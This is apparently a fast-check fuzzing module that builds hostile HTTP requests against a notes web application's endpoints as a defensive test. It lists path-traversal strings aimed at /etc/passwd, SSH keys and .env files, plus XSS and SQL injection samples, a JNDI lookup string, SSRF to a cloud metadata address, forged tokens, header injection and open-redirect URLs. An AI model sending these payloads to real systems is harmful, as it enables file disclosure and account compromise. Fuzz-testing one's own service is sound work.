import fc from "fast-check";
import type { RawRequest } from "./raw-http";

/**
 * fast-check arbitraries of hostile requests against every endpoint: malformed and huge JSON and form
 * bodies (with a Content-Length or chunked), oversized multipart forms, server actions React cannot decode,
 * wrong content types, unicode edge cases, traversal and control characters in file names, oversized headers,
 * forged tokens, other users' keys and ids, garbage ids and query parameters. A generated Spec is
 * small; big bodies are expanded only when the request is built, so that 10,000 specs fit in memory.
 */

/** Who a request claims to be. "valid" is user B's own token; every other kind must never authenticate. */
export type TokenKind =
  | "valid"
  | "absent"
  | "alg-none"
  | "wrong-key"
  | "tampered"
  | "expired"
  | "wrong-alg"
  | "no-typ"
  | "no-exp"
  | "refresh-typ"
  | "alg-confusion"
  | "garbage"
  | "basic"
  | "malformed";

/** What the fuzzer knows: B's own ids, tokens and keys, and A's (the victim's) ids and keys. */
export interface FuzzContext {
  bIds: number[];
  aIds: number[];
  bKeys: string[];
  aKeys: string[];
  aUserId: string;
  /** Real cursors of B's listing (B also has notes of the largest size, so its pages end at the byte budget). */
  cursors: string[];
  bUserId: string;
  tokens: Record<TokenKind, string | null>;
  maxUploadBytes: number;
  /** The browser's server actions, as the sign-in and sign-up pages render them for forms without JavaScript. */
  actions: { path: string; id: string; fields: [string, string][] }[];
  /** B's browser session cookie, sent with the pages' requests that carry B's valid token. */
  sessionCookie: string;
}

/**
 * A body: text (UTF-8), raw bytes (latin1 string), one string repeated, or a multipart form of `fields` fields
 * of `fieldBytes` bytes each (both expanded when sent).
 */
export type BodySpec =
  | { text: string }
  | { latin1: string }
  | { repeat: string; times: number; prefix?: string; suffix?: string }
  | { boundary: string; fields: number; fieldBytes: number };

export interface Spec {
  /** The endpoint family, for the statistics. */
  endpoint: string;
  method: string;
  target: string;
  token: TokenKind;
  authHeader: string | null;
  headers: [string, string][];
  body?: BodySpec;
  chunked?: boolean;
  noHost?: boolean;
  http10?: boolean;
}

export function buildRequest(spec: Spec): RawRequest {
  const headers: [string, string][] = [...spec.headers];
  if (spec.authHeader !== null) headers.push(["Authorization", spec.authHeader]);
  let body: Buffer | undefined;
  if (spec.body) {
    const b = spec.body;
    if ("text" in b) body = Buffer.from(b.text, "utf8");
    else if ("latin1" in b) body = Buffer.from(b.latin1, "latin1");
    else if ("repeat" in b) body = Buffer.from(`${b.prefix ?? ""}${b.repeat.repeat(b.times)}${b.suffix ?? ""}`, "utf8");
    else {
      const part = Buffer.from(
        `--${b.boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\n${"x".repeat(b.fieldBytes)}\r\n`,
      );
      body = Buffer.concat([...Array.from({ length: b.fields }, () => part), Buffer.from(`--${b.boundary}--\r\n`)]);
    }
  }
  return {
    method: spec.method,
    target: spec.target,
    headers,
    body,
    chunked: spec.chunked,
    noHost: spec.noHost,
    http10: spec.http10,
  };
}

// --- strings ------------------------------------------------------------------------------------------------

const EDGE_UNITS = [
  "\u0000",
  "\u0001",
  "\u0008",
  "\u001b",
  "\u007f",
  "\u0085",
  "\t",
  "\r",
  "\n",
  "\r\n",
  "\uD800",
  "\uDBFF",
  "\uDC00",
  "\uDFFF",
  "\uFFFE",
  "\uFFFF",
  "\uFEFF",
  "\u202A",
  "\u202B",
  "\u202D",
  "\u202E",
  "\u2066",
  "\u2067",
  "\u2069",
  "\u200E",
  "\u200F",
  "\u200B",
  "\u200C",
  "\u200D",
  "\u2060",
  "\u2028",
  "\u2029",
  "\u00A0",
  "\u3000",
  "\u0301",
  "\u0336",
  "e\u0301",
  "\uFDFA",
  "\u0628",
  "\u05D0",
  "\u{1D54F}",
  "\u{1F600}",
  "\u{1F469}\u200D\u{1F469}\u200D\u{1F467}",
  "'",
  '"',
  "`",
  "\\",
  "/",
  "%",
  "%00",
  "%2e",
  "%2F",
  "..",
  "../",
  "..\\",
  "~",
  "$",
  "{",
  "}",
  "<",
  ">",
  "&",
  ";",
  "|",
  "*",
  ":",
  "?",
  "#",
  "=",
  "+",
];

const EDGE_STRINGS = [
  "",
  " ",
  "  \t ",
  "null",
  "undefined",
  "NaN",
  "true",
  "0",
  "-1",
  "[]",
  "{}",
  "../../../../etc/passwd",
  "..\\..\\..\\windows\\win.ini",
  "/etc/passwd",
  "C:\\boot.ini",
  "\\\\server\\share\\x",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "..%00/",
  "....//....//",
  "./.",
  ".",
  "..",
  "...",
  "~/.ssh/id_rsa",
  "file\u0000.txt",
  "a\u202Etxt.exe",
  "\u202Egnp.exe",
  "con",
  "CON.txt",
  "nul",
  "aux.txt",
  "COM1",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "javascript:alert(1)",
  "' OR '1'='1",
  "1; DROP TABLE notes; --",
  "${jndi:ldap://example.com/a}",
  "{{7*7}}",
  "%s%s%s%n",
  "\u0000\u0000\u0000",
  "\uD800\uD800",
  "\uDFFF\uD800",
  "A".repeat(255),
  "A".repeat(256),
  "é".repeat(200),
  "😀".repeat(201),
  "\u200B".repeat(300),
  "users/../../secret",
  "users/x/uploads/../../y",
  ":memory:",
  "\r\nX-Injected: 1",
  "a\r\n\r\nGET / HTTP/1.1",
];

const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c));

const unit = fc.oneof(
  { weight: 4, arbitrary: fc.string({ unit: "grapheme-ascii", minLength: 1, maxLength: 1 }) },
  { weight: 3, arbitrary: fc.string({ unit: "binary", minLength: 1, maxLength: 1 }) },
  { weight: 3, arbitrary: fc.constantFrom(...EDGE_UNITS) },
  { weight: 1, arbitrary: loneSurrogate },
);

/** Any string a client could send: short random unicode with edge cases, known nasties, and long ones. */
export const nastyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 12, arbitrary: fc.string({ unit, maxLength: 40 }) },
  { weight: 5, arbitrary: fc.constantFrom(...EDGE_STRINGS) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...EDGE_UNITS, "a", "é"), fc.integer({ min: 190, max: 120_000 }))
      .map(([c, n]) => c.repeat(n)),
  },
);

const jsonScalar = fc.oneof(
  nastyString,
  fc.integer(),
  fc.double(),
  fc.constantFrom(null, true, false, 0, -0, 1e308, -1e308, 2 ** 53, 2 ** 31, -(2 ** 31) - 1, 1.5),
  fc.jsonValue({ maxDepth: 2 }),
);

// --- ids, keys, queries ---------------------------------------------------------------------------------------

const EDGE_IDS = [
  "0",
  "-1",
  "-0",
  "+1",
  "1.0",
  "1.5",
  "1e3",
  "0x10",
  "010",
  " 1",
  "1 ",
  "1%20",
  "%201",
  "2147483647",
  "2147483648",
  "-2147483649",
  "9007199254740993",
  "99999999999999999999999",
  "1" + "0".repeat(400),
  "NaN",
  "Infinity",
  "-Infinity",
  "null",
  "undefined",
  "true",
  "abc",
  "%",
  "%%",
  "%0",
  "%00",
  "%zz",
  "%E0%A4%A",
  "%C0%AE",
  "%ff",
  "..",
  ".",
  "%2e%2e",
  "%2E",
  "..%2f..%2fetc",
  "1%00",
  "1;",
  "1,2",
  "1/../2",
  "[1]",
  "{}",
  "\u0661",
  "\uFF11",
  "١٢",
  "%EF%BC%91",
  "1%0d%0aX-Injected:%201",
  "~",
  "*",
  "'",
  '"',
];

export function idArb(ctx: FuzzContext): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 5, arbitrary: fc.constantFrom(...ctx.bIds.map(String)) },
    { weight: 4, arbitrary: fc.constantFrom(...ctx.aIds.map(String)) },
    { weight: 4, arbitrary: fc.constantFrom(...EDGE_IDS) },
    { weight: 2, arbitrary: fc.oneof(fc.integer(), fc.bigInt({ min: -(2n ** 70n), max: 2n ** 70n })).map(String) },
    { weight: 2, arbitrary: nastyString.map((s) => encodeURIComponentLoose(s)) },
  );
}

/** encodeURIComponent that never throws (lone surrogates are written as raw bytes instead). */
export function encodeURIComponentLoose(s: string): string {
  try {
    return encodeURIComponent(s);
  } catch {
    return Buffer.from(s, "utf8")
      .toString("latin1")
      .replace(/[^A-Za-z0-9\-_.~]/g, (c) => `%${c.charCodeAt(0).toString(16).padStart(2, "0")}`);
  }
}

export function fileKeyArb(ctx: FuzzContext): fc.Arbitrary<unknown> {
  const a = ctx.aUserId;
  const b = ctx.bUserId;
  const uuid = "3f2504e0-4f89-41d3-9a0c-0305e82c3301";
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...ctx.aKeys) },
    { weight: 3, arbitrary: fc.constantFrom(...ctx.bKeys) },
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        `users/${a}/uploads/${uuid}/x.txt`,
        `users/${b}/uploads/${uuid}/x.txt`,
        `users/${b}/uploads/../../${a}/uploads/${uuid}/x.txt`,
        `users/${b}/uploads/${uuid}/../../../${a}/uploads/${uuid}/x.txt`,
        `users/${b}/uploads/${uuid}/..`,
        `users/${b}/uploads/${uuid}/`,
        `users/${b}/uploads/${uuid}/x.txt/../../y`,
        `users/${b}/uploads/${uuid}/x.txt\u0000`,
        `/users/${b}/uploads/${uuid}/x.txt`,
        `users/${b}/uploads//${uuid}/x.txt`,
        `USERS/${b}/uploads/${uuid}/x.txt`,
        `users/${b}%2fuploads/${uuid}/x.txt`,
        `users/${b}/uploads/${uuid}/x.txt?versionId=1`,
        `users/${b}/`,
        `users/`,
        "../../etc/passwd",
        "",
        " ",
        "s3://bucket/key",
        `http://169.254.169.254/latest/meta-data/`,
      ),
    },
    { weight: 2, arbitrary: fc.oneof(nastyString, jsonScalar) },
    ...(ctx.aKeys.length ? [{ weight: 1, arbitrary: fc.constantFrom(...ctx.aKeys).map((k) => k.replace(a, b)) }] : []),
  );
}

const limitArb = fc.oneof(
  fc.constantFrom(
    "1",
    "0",
    "-1",
    "1000",
    "1001",
    "100000000000",
    "1.5",
    "1e3",
    "NaN",
    "Infinity",
    "",
    " ",
    "abc",
    "%00",
    "0x10",
    "٣",
    "10%00",
  ),
  fc.integer().map(String),
  nastyString.map(encodeURIComponentLoose),
);

function cursorArb(ctx: FuzzContext): fc.Arbitrary<string> {
  const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString("base64url");
  const ids = [...ctx.aIds, ...ctx.bIds];
  return fc.oneof(
    ...(ctx.cursors.length ? [fc.constantFrom(...ctx.cursors)] : []),
    fc.constantFrom("", "abc", "%00", "====", "null", "W10", "e30", "eyJ"),
    fc.base64String({ maxLength: 60 }).map((s) => encodeURIComponent(s)),
    fc
      .tuple(
        fc.constantFrom(
          "2100-01-01T00:00:00.000Z",
          "1970-01-01T00:00:00.000Z",
          "not a date",
          "2020-02-30T00:00:00Z",
          "",
        ),
        fc.oneof(fc.constantFrom(...ids), fc.integer(), fc.constantFrom(2 ** 31, -1, 1.5, "1")),
      )
      .map(([d, i]) => b64([d, i])),
    jsonScalar.map((v) => b64(v)),
    fc.string({ unit: "binary", maxLength: 300 }).map(encodeURIComponentLoose),
  );
}

const qArb = fc.oneof(
  nastyString.map(encodeURIComponentLoose),
  // Runs of NOTs for websearch_to_tsquery (33 and more once failed the query).
  fc
    .tuple(
      fc.constantFrom("-", "-%20", "-!", "-(", "-%22", "--%20"),
      fc.integer({ min: 30, max: 100 }),
      fc.constantFrom("", "a", "huge", "-x"),
    )
    .map(([run, n, word]) => `${run.repeat(n)}${word}`.slice(0, 200)),
  fc.constantFrom(
    "a%20%26%20b",
    "!",
    "%26%26%26",
    "%7C%7C",
    "%3A*",
    "'",
    "%22unterminated",
    "-",
    "or",
    "a%3A*B",
    "%5C",
    "%00",
    "%",
    "%E2%80%AE",
    "canary",
  ),
);

function queryArb(ctx: FuzzContext): fc.Arbitrary<string> {
  return fc
    .record(
      {
        limit: limitArb,
        cursor: cursorArb(ctx),
        q: qArb,
        extra: fc.constantFrom(
          "limit=1&limit=2",
          "q[]=1",
          "q=a&q=b",
          "__proto__=x",
          "constructor[prototype]=x",
          "&&&",
          "=",
          "%=%",
          "a=%ZZ",
        ),
      },
      { requiredKeys: [] },
    )
    .map((r) => {
      const parts = [];
      if (r.limit !== undefined) parts.push(`limit=${r.limit}`);
      if (r.cursor !== undefined) parts.push(`cursor=${r.cursor}`);
      if (r.q !== undefined) parts.push(`q=${r.q}`);
      if (r.extra !== undefined) parts.push(r.extra);
      return parts.length ? `?${parts.join("&")}` : "";
    });
}

// --- bodies -----------------------------------------------------------------------------------------------------

const MALFORMED_JSON = [
  "",
  "{",
  "}",
  "[",
  '{"title":',
  '{"title": "unterminated}',
  "{'title': 'single'}",
  "{title: 1}",
  "nul",
  "NaN",
  "1e999",
  '{"title":"a","title":"b"}',
  '{"__proto__":{"isAdmin":true},"title":"proto"}',
  '{"constructor":{"prototype":{"x":1}}}',
  '\uFEFF{"title":"bom"}',
  '{"title":"x"} trailing',
  '[{"title":"in an array"}]',
  '"just a string"',
  "42",
  "true",
  "null",
  '{"title":"\\ud800"}',
  '{"title":"\\u0000"}',
  '{"description":"\\udfff\\ud800"}',
  '{"title":1e400}',
];

/** A JSON object body for an endpoint: its own fields with hostile values, sometimes extra or missing ones. */
function jsonFieldsArb(fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<BodySpec> {
  return fc.oneof(
    {
      weight: 10,
      arbitrary: fc
        .record({ ...fields, extra: jsonScalar }, { requiredKeys: [] })
        .map((o) => ({ text: JSON.stringify(o) })),
    },
    { weight: 2, arbitrary: fc.constantFrom(...MALFORMED_JSON).map((text) => ({ text })) },
    { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((v) => ({ text: JSON.stringify(v) })) },
    {
      weight: 1,
      arbitrary: fc.integer({ min: 1000, max: 60_000 }).map((n) => ({ repeat: "[", times: n, suffix: "]".repeat(n) })),
    },
    {
      weight: 1,
      arbitrary: fc
        .integer({ min: 1024 * 1024 - 64, max: 1024 * 1024 + 4096 })
        .map((n) => ({ prefix: '{"title":"', repeat: "a", times: n, suffix: '"}' })),
    },
    // Not UTF-8 at all: random code points' bytes cut anywhere, and bytes that are never valid.
    {
      weight: 1,
      arbitrary: fc
        .string({ unit: "binary", maxLength: 200 })
        .map((s) => ({ latin1: `{"title":"${Buffer.from(s, "utf8").toString("latin1")}\xff\xfe\xc0\xaf"}` })),
    },
  );
}

function formBodyArb(fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<BodySpec> {
  const value = (v: unknown) => (typeof v === "string" ? v : (JSON.stringify(v) ?? ""));
  return fc.oneof(
    {
      weight: 8,
      arbitrary: fc.record(fields, { requiredKeys: [] }).map((o) => ({
        text: Object.entries(o)
          .map(([k, v]) => `${k}=${encodeURIComponentLoose(value(v))}`)
          .join("&"),
      })),
    },
    {
      weight: 2,
      arbitrary: fc
        .constantFrom(
          "=",
          "&&&",
          "title",
          "title=%",
          "title=%ZZ&description=%E0%A4%A",
          "title=a&title=b",
          "title=%00",
          "a=1;b=2",
          "%=%=%",
        )
        .map((text) => ({ text })),
    },
    {
      weight: 1,
      arbitrary: fc
        .integer({ min: 1024 * 1024, max: 1024 * 1024 + 4096 })
        .map((n) => ({ prefix: "title=", repeat: "x", times: n })),
    },
  );
}

const PART_TYPES = [
  "text/plain",
  "application/octet-stream",
  "image/png",
  "text/html",
  "image/svg+xml",
  "application/x-msdownload",
  "application/x-sh",
  "",
  "garbage",
  "text/plain; charset=utf-16",
  "multipart/mixed",
  "application/pdf",
];

/** A multipart/form-data body: fields, and a file part with a hostile name, type and size; or an oversized form. */
function multipartArb(
  fields: Record<string, fc.Arbitrary<unknown>>,
  maxUploadBytes: number,
): fc.Arbitrary<{ boundary: string; body: BodySpec; typeHeader: string }> {
  // Many large fields, as in the issue (19 of 500 KiB): the server must stop counting, not buffer them all.
  const oversize = fc
    .record({ fields: fc.integer({ min: 3, max: 20 }), fieldBytes: fc.integer({ min: 256 * 1024, max: 512 * 1024 }) })
    .map(({ fields: n, fieldBytes }) => ({
      boundary: "----oversize",
      body: { boundary: "----oversize", fields: n, fieldBytes } as BodySpec,
      typeHeader: "multipart/form-data; boundary=----oversize",
    }));
  return fc.oneof(
    { weight: 30, arbitrary: multipartFormArb(fields, maxUploadBytes) },
    { weight: 1, arbitrary: oversize },
  );
}

function multipartFormArb(
  fields: Record<string, fc.Arbitrary<unknown>>,
  maxUploadBytes: number,
): fc.Arbitrary<{ boundary: string; body: BodySpec; typeHeader: string }> {
  return fc
    .record({
      boundary: fc.constantFrom("----fuzz", "x", "a".repeat(70), "----fuzz boundary", '"quoted"'),
      fields: fc.record(fields, { requiredKeys: [] }),
      file: fc.option(
        fc.record({
          field: fc.constantFrom("file", "file", "file", "evil", "title", ""),
          name: fc.oneof(
            nastyString,
            fc.constantFrom(
              "a.txt",
              "../../etc/passwd",
              "..\\..\\x.txt",
              "x\u0000.txt",
              "\u202Efdp.exe",
              'a"b.txt',
              "a\r\nContent-Type: text/html\r\n\r\n.txt",
            ),
          ),
          nameStar: fc.boolean(),
          type: fc.constantFrom(...PART_TYPES),
          size: fc.oneof(
            { weight: 6, arbitrary: fc.integer({ min: 0, max: 2048 }) },
            { weight: 1, arbitrary: fc.constantFrom(maxUploadBytes, maxUploadBytes + 1, maxUploadBytes + 70_000) },
          ),
        }),
        { freq: 3 },
      ),
      secondFile: fc.boolean(),
      broken: fc.constantFrom("none", "none", "none", "none", "no-end", "no-crlf", "garbage-header", "truncated"),
    })
    .map(({ boundary, fields: f, file, secondFile, broken }) => {
      const b = boundary.replace(/^"|"$/g, "");
      const head: string[] = [];
      for (const [k, v] of Object.entries(f)) {
        head.push(
          `--${b}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${typeof v === "string" ? v : JSON.stringify(v)}\r\n`,
        );
      }
      if (broken === "garbage-header")
        head.push(`--${b}\r\nContent-Disposition: garbage\r\nX: \u0000\r\n\r\nvalue\r\n`);
      let body: BodySpec;
      const end = broken === "no-end" ? "" : `\r\n--${b}--\r\n`;
      if (file) {
        const disposition = file.nameStar
          ? `form-data; name="${file.field}"; filename*=UTF-8''${encodeURIComponentLoose(file.name)}`
          : `form-data; name="${file.field}"; filename="${file.name}"`;
        const partHead = `--${b}\r\nContent-Disposition: ${disposition}\r\n${file.type ? `Content-Type: ${file.type}\r\n` : ""}${broken === "no-crlf" ? "" : "\r\n"}`;
        const second = secondFile
          ? `\r\n--${b}\r\nContent-Disposition: form-data; name="file"; filename="second.txt"\r\nContent-Type: text/plain\r\n\r\nsecond`
          : "";
        body = {
          prefix: head.join("") + partHead,
          repeat: "z",
          times: broken === "truncated" ? Math.floor(file.size / 2) : file.size,
          suffix: broken === "truncated" ? "" : second + end,
        };
      } else {
        body = { text: head.join("") + (broken === "truncated" ? `--${b}\r\nContent-Disp` : end || `--${b}--\r\n`) };
      }
      return { boundary, body, typeHeader: `multipart/form-data; boundary=${boundary}` };
    });
}

// --- requests ---------------------------------------------------------------------------------------------------

const CONTENT_TYPES = [
  "application/json",
  "application/json; charset=utf-8",
  "application/json; charset=utf-16",
  "application/vnd.api+json",
  "APPLICATION/JSON",
  "application/x-www-form-urlencoded",
  "multipart/form-data",
  "multipart/form-data; boundary=",
  "multipart/mixed; boundary=x",
  "text/plain",
  "text/html",
  "application/xml",
  "application/octet-stream",
  "image/png",
  "",
  "*/*",
  "application/json, text/plain",
  "application/json\u0000",
  "json",
  "a/b/c",
];

const EXTRA_HEADERS: fc.Arbitrary<[string, string]> = fc.oneof(
  {
    weight: 10,
    arbitrary: fc.constantFrom<[string, string]>(
      ["X-Forwarded-For", "1.2.3.4"],
      ["X-Forwarded-For", "unknown"],
      ["X-Forwarded-For", "::1, 10.0.0.1"],
      ["X-Forwarded-For", "999.999.999.999"],
      ["X-Forwarded-For", "a".repeat(2000)],
      ["X-Forwarded-For", ", , ,"],
      ["X-Forwarded-For", "[::ffff:1.2.3.4]:80"],
      ["X-Forwarded-Host", "evil.example"],
      ["X-Forwarded-Proto", "javascript"],
      ["X-Real-IP", "1.1.1.1"],
      ["X-Request-Id", "../../x"],
      ["X-Request-Id", "a".repeat(500)],
      ["X-Request-Id", "ok-id-123"],
      ["Accept", "text/html"],
      ["Accept", "*/*;q=0"],
      ["Accept-Encoding", "gzip, br"],
      ["Accept-Encoding", "identity;q=0, *;q=0"],
      ["Accept-Language", "zz-ZZ, *;q=garbage"],
      ["Cookie", "authjs.session-token=garbage"],
      ["Cookie", "authjs.session-token=eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..x.y.z"],
      ["Cookie", `${"a=b; ".repeat(300)}`],
      ["Cookie", "__Secure-authjs.session-token=x; authjs.csrf-token=y"],
      ["Next-Action", "0123456789abcdef0123456789abcdef01234567"],
      ["Next-Action", "garbage"],
      ["RSC", "1"],
      ["Next-Router-State-Tree", "%5B%22garbage"],
      ["Next-Router-State-Tree", "not json"],
      ["Next-Router-Prefetch", "1"],
      ["Next-Url", "/../../etc"],
      ["X-Middleware-Subrequest", "middleware:middleware:middleware:middleware:middleware"],
      ["X-Invoke-Path", "/notes"],
      ["X-Nextjs-Data", "1"],
      ["Purpose", "prefetch"],
      ["Origin", "https://evil.example"],
      ["Origin", "null"],
      ["Origin", "not a url"],
      ["Origin", "http://127.0.0.1"],
      ["Range", "bytes=0-0,1-1,2-2"],
      ["If-None-Match", "*"],
      ["Expect", "100-continue"],
      ["Content-Encoding", "gzip"],
      ["Content-Encoding", "br"],
      ["Transfer-Encoding", "gzip, chunked"],
      ["Content-Length", "abc"],
      ["Content-Length", "-1"],
      ["Content-Length", "1, 1"],
      ["Upgrade", "websocket"],
      ["Max-Forwards", "0"],
    ),
  },
  // Oversized: past Node's 16 KiB header limit (431), or just under it.
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.constantFrom("X-Huge", "Cookie", "X-Forwarded-For", "Referer", "User-Agent"),
        fc.integer({ min: 9000, max: 70_000 }),
      )
      .map(([n, size]): [string, string] => [n, "h".repeat(size)]),
  },
  {
    weight: 4,
    arbitrary: fc
      .tuple(fc.constantFrom("X-Fuzz", "Referer", "User-Agent", "Accept-Language", "If-Modified-Since"), nastyString)
      .map(([n, v]): [string, string] => [n, v.replace(/[\r\n\u0000]/g, "").slice(0, 2000)]),
  },
);

const METHODS = fc.oneof(
  { weight: 20, arbitrary: fc.constantFrom("GET", "POST", "PUT", "DELETE") },
  { weight: 3, arbitrary: fc.constantFrom("PATCH", "HEAD", "OPTIONS") },
  {
    weight: 1,
    arbitrary: fc.constantFrom("TRACE", "CONNECT", "FOO", "get", "PROPFIND", "M-SEARCH", "G ET", "GET\u0000"),
  },
);

interface Shape {
  endpoint: string;
  target: fc.Arbitrary<string>;
  methods: string[];
  fields: Record<string, fc.Arbitrary<unknown>>;
}

function shapes(ctx: FuzzContext): Shape[] {
  const id = idArb(ctx);
  const key = fileKeyArb(ctx);
  const withId = (suffix: string) => id.map((i) => `/notes/${i}${suffix}`);
  const emailish = fc.oneof(
    fc.emailAddress(),
    nastyString,
    fc.constantFrom("a@b.c", "A@B.C ", " a@example.com", "a@example.com\u0000", "a@localhost", "@", "a@@b.c"),
  );
  const password = fc.oneof(
    nastyString,
    fc.constantFrom("correct horse battery", "short", "x".repeat(129), "x".repeat(2000)),
  );
  const note = {
    title: fc.oneof(nastyString, jsonScalar),
    description: fc.oneof(nastyString, jsonScalar),
    file_key: key,
  };
  const upload = {
    filename: fc.oneof(
      nastyString,
      fc.constantFrom(
        "a.txt",
        "../../../etc/passwd",
        "..",
        "/",
        "\u0000",
        "a/b/c.txt",
        "C:\\x\\y.txt",
        "\u202Etxt.exe",
      ),
    ),
    content_type: fc.oneof(
      fc.constantFrom(
        ...PART_TYPES,
        "text/plain",
        "image/png",
        "image/svg+xml",
        "text/html",
        "application/json",
        "IMAGE/PNG",
        "text/*",
        "*/*",
      ),
      nastyString,
    ),
    size: fc.oneof(
      fc.integer(),
      fc.constantFrom(0, -1, 1.5, 2 ** 53, 1e308, ctx.maxUploadBytes, ctx.maxUploadBytes + 1, "10", null, true),
      fc.double(),
    ),
  };
  return [
    {
      endpoint: "/register",
      target: fc.constant("/register"),
      methods: ["POST"],
      fields: { email: emailish, password },
    },
    {
      endpoint: "/login",
      target: fc.constant("/login"),
      methods: ["POST"],
      fields: { username: emailish, email: emailish, password },
    },
    { endpoint: "GET /notes", target: queryArb(ctx).map((q) => `/notes${q}`), methods: ["GET"], fields: {} },
    {
      // Huge lists: B's notes of the largest size, in pages as large as the limit allows, walked by real cursors.
      endpoint: "GET /notes (huge)",
      target: fc
        .record(
          {
            limit: fc.constantFrom("1000", "999", "300", "2", "1"),
            cursor: ctx.cursors.length ? fc.constantFrom(...ctx.cursors) : fc.constant(""),
            q: fc.constantFrom("huge", "huge%20-%D0%B6", "-".repeat(40), "%E8%AA%9E"),
          },
          { requiredKeys: ["limit"] },
        )
        .map(
          (r) =>
            `/notes?${Object.entries(r)
              .map(([k, v]) => `${k}=${v}`)
              .join("&")}`,
        ),
      methods: ["GET"],
      fields: {},
    },
    { endpoint: "POST /notes", target: fc.constant("/notes"), methods: ["POST"], fields: note },
    { endpoint: "/notes/{id}", target: withId(""), methods: ["GET", "DELETE", "GET"], fields: {} },
    { endpoint: "/notes/{id}/title", target: withId("/title"), methods: ["PUT"], fields: { title: note.title } },
    {
      endpoint: "/notes/{id}/description",
      target: withId("/description"),
      methods: ["PUT"],
      fields: { description: note.description },
    },
    { endpoint: "/notes/{id}/file", target: withId("/file"), methods: ["PUT", "DELETE"], fields: { file_key: key } },
    { endpoint: "/uploads", target: fc.constant("/uploads"), methods: ["POST"], fields: upload },
    {
      endpoint: "operations",
      target: fc.constantFrom(
        "/healthz",
        "/readyz",
        "/metrics",
        "/openapi.json",
        "/docs",
        "/docs/scalar.js",
        "/healthz?x=%00",
        "/metrics?token=x",
      ),
      methods: ["GET"],
      fields: {},
    },
    {
      endpoint: "ui",
      target: fc.oneof(
        { weight: 2, arbitrary: returnPathTargetArb() },
        { weight: 1, arbitrary: pageQueryArb(id) },
        {
          weight: 2,
          arbitrary: fc.constantFrom(
            "/",
            "/signin",
            "/signup",
            "/signin?callbackUrl=https://evil.example",
            "/signin?callbackUrl=%00",
            "/api/auth/session",
            "/api/auth/csrf",
            "/api/auth/providers",
            "/api/auth/signin",
            "/api/auth/signout",
            "/api/auth/callback/credentials",
            "/api/auth/callback/github?code=x&state=y",
            "/api/auth/error?error=%00",
            "/icon.svg",
            "/favicon.ico",
          ),
        },
        { weight: 1, arbitrary: id.map((i) => `/n/${i}`) },
      ),
      methods: ["GET", "POST"],
      fields: {
        email: emailish,
        password,
        csrfToken: nastyString,
        callbackUrl: fc.oneof(
          fc.constantFrom("https://evil.example", "/", "javascript:alert(1)", "//evil.example"),
          fc.constantFrom(...HOSTILE_RETURN.map(decodeLoose)),
        ),
      },
    },
    {
      endpoint: "other paths",
      target: fc.oneof(
        fc.constantFrom(
          "//notes",
          "/notes/",
          "/NOTES",
          "/notes//1",
          "/notes/1/",
          "/notes/1/title/",
          "/notes/1/unknown",
          "/notes/1/file/x",
          "/notes/%2e%2e/%2e%2e/etc/passwd",
          "/../../../../etc/passwd",
          "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
          "/..%2f..%2f..%2fetc%2fpasswd",
          "/.env",
          "/.git/config",
          "/package.json",
          "/server.mjs",
          "/_next/static/../../../package.json",
          "/_next/static/%2e%2e/%2e%2e/package.json",
          "/_next/image?url=http://169.254.169.254/&w=64&q=75",
          "/_next/image?url=%2Ficon.svg&w=99999&q=1000",
          "/_next/data/x/y.json",
          "/_next/",
          "/api/auth/../../.env",
          "/notes?%",
          "/notes#frag",
          "*",
          "/\u0000",
          "/%",
          "/%00",
          "/%ff",
          "/a b",
          "/\u202E",
          "/\u00e9",
          "http://evil.example/notes",
          "/notes\r\nX-Injected: 1",
          "/" + "a".repeat(9000),
          "/n/" + "1".repeat(5000),
        ),
        nastyString.map((s) => `/${s.replace(/[\r\n ]/g, "")}`),
      ),
      methods: ["GET", "POST", "PUT", "DELETE"],
      fields: { title: nastyString },
    },
  ];
}

/** Return paths a link could carry to /signin or /signup (as they appear in a query string). */
const HOSTILE_RETURN = [
  "/%09/evil.example/phish",
  "/%0a/evil.example",
  "//evil.example",
  "/%5Cevil.example",
  "%5C%5Cevil.example",
  "https://evil.example",
  "https:evil.example",
  "javascript:alert(1)",
  "%0d%0a",
  "/%0d%0aSet-Cookie:%20x=1",
  "%00",
  "/a%00b",
  "%E2%80%A8",
  "%ff",
  "%",
  "%25",
  "http://[::1",
  "/n/12%3Fq%3Dx%23frag",
  "/n/12?q=x#frag",
  "",
  "/",
  "..%2F..%2F",
  "%2F%2Fevil.example",
  "data:text/html,x",
];

function decodeLoose(s: string): string {
  try {
    return decodeURIComponent(s);
  } catch {
    return s;
  }
}

/** /signin and /signup with a hostile callbackUrl (signed in, they redirect to it; signed out, they render it). */
function returnPathTargetArb(): fc.Arbitrary<string> {
  const value = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_RETURN) },
    { weight: 1, arbitrary: nastyString.filter((s) => s.length < 300).map(encodeURIComponentLoose) },
  );
  return fc
    .tuple(fc.constantFrom("/signin", "/signup"), value, fc.boolean())
    .map(([page, v, twice]) => `${page}?callbackUrl=${v}${twice ? `&callbackUrl=${v}` : ""}`);
}

/** The notes pages with hostile query strings (search, cursor, anything). */
function pageQueryArb(id: fc.Arbitrary<string>): fc.Arbitrary<string> {
  const value = fc.oneof(
    fc.constantFrom("%00", "%0d%0a", "%ff%fe", "%", "%E2%80%A8", "a".repeat(3000)),
    nastyString.filter((s) => s.length < 300).map(encodeURIComponentLoose),
  );
  return fc
    .tuple(
      fc.oneof(
        fc.constant("/"),
        id.map((i) => `/n/${i}`),
      ),
      fc.constantFrom("q", "cursor", "callbackUrl", "x", "q[]"),
      value,
    )
    .map(([page, name, v]) => `${page}?${name}=${v}`);
}

